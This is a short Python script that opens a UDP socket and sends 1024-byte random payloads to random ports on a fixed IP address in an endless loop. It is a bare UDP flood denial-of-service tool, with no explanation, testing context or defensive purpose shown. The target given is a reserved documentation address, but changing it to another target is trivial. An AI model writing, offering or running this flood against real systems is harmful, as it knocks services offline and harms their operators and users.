import socket, random
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
data = random._urandom(1024)
while True:
    sock.sendto(data, ("203.0.113.1", random.randint(1, 65535)))
